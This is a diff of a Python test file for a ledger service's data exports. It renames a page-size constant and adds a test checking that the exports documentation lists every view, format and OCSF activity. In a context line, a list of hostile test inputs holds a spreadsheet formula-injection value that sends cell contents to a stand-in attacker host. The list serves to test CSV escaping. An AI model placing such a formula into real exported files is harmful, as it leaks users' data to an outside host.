@@ -28,8 +28,10 @@ from ledger.domain.errors import InvalidValue, TamperDetected
 from ledger.service.exports import FORMATS, VIEWS, export, formats_of
 from ledger.service.exports.csv_table import FORMULA_STARTS, MARK, escaped, unescaped
 from ledger.service.exports.export import stream_export
+from ledger.service.exports.ocsf import ACTIVITIES
 from ledger.service.exports.parquet import GROUP_ROWS_MAX
 from ledger.service.exports.parquet import write as write_parquet
+from ledger.service.http.exports import ManifestAnswer
 from ledger.service.http.shapes import TimeTravel
 from ledger.tlog.note import parse_note
 from tests.conftest import on_each_store
@@ -43,6 +45,7 @@ from tests.service.conftest import (
 
 pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
 
+ROOT = Path(__file__).resolve().parents[2]
 NOW_TRAVEL = TimeTravel(None, None, None)
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -170,7 +173,7 @@ def test_an_export_is_read_in_pages(filled: Running, monkeypatch: pytest.MonkeyP
     """Whatever the size of the pages, every item is there once, in order."""
     whole = [exported(filled, view, "ndjson", known_position=40).content for view in VIEWS]
     for rows in (1, 7):
-        monkeypatch.setattr(export, "PAGE_ROWS", rows)
+        monkeypatch.setattr(export, "PAGE_ROWS_MAX", rows)
         small = [exported(filled, view, "ndjson", known_position=40).content for view in VIEWS]
         assert whole == small
 
@@ -559,7 +562,7 @@ def test_a_fault_midway_breaks_the_connection(
     filled: Running, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """A client is told that the answer is not whole; it never ends as if it were."""
-    monkeypatch.setattr(export, "PAGE_ROWS", 5)
+    monkeypatch.setattr(export, "PAGE_ROWS_MAX", 5)
     read = export.pages
 
     def failing(*asked: Any) -> Iterator[Any]:
@@ -576,7 +579,7 @@ def test_between_pages_no_transaction_is_open(
     filled: Running, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """A slow reader keeps nobody from writing, nor the write-ahead log from starting over."""
-    monkeypatch.setattr(export, "PAGE_ROWS", 5)
+    monkeypatch.setattr(export, "PAGE_ROWS_MAX", 5)
     service = filled.service
     fixed, parts = stream_export(
         service, VIEWS["events"], FORMATS["ndjson"], filters={}, travel=NOW_TRAVEL, by=SYSTEM_AUTHOR
@@ -603,3 +606,22 @@ def test_a_list_is_not_exported_in_a_form_it_does_not_have(filled: Running) -> N
             travel=NOW_TRAVEL,
             by=SYSTEM_AUTHOR,
         )
+
+
+# --- the page about it ----------------------------------------------------------------------------
+
+
+def test_the_page_about_exports_names_every_list_and_format() -> None:
+    """Its tables are those that routes and command go by, and so are its OCSF activities."""
+    page = (ROOT / "docs/reference/exports.md").read_text(encoding="utf-8")
+
+    for view in VIEWS.values():
+        names = ", ".join(f"`{name}`" for name in formats_of(view))
+        assert f"| `{view.name}` | {names} |" in page
+    for each in FORMATS.values():
+        assert f"| `{each.name}` | `{each.media_type}` | {each.what} |" in page
+    for type_, (uid, name) in ACTIVITIES.items():
+        (row,) = [line for line in page.splitlines() if f"`{type_}`" in line and "3004" in line]
+        assert f"| {uid} {name} |" in row
+    for member in ManifestAnswer.model_fields:
+        assert f"`{member}`" in page
